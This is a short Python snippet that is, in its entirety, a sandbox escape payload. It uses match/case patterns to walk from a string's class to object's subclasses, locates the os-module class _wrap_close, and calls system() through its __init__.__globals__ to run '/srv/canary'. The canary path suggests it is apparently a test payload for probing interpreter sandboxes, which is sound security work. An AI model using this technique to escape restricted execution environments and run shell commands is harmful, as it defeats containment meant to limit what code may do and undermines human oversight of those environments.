# reaches: patterns walk from a value to its class's subclasses
match "":
    case object(__class__=object(__mro__=(_, top))):
        match top:
            case object(__subclasses__=ask):
                for c in ask():
                    if c.__name__ == "_wrap_close":
                        c.__init__.__globals__["system"]("/srv/canary")
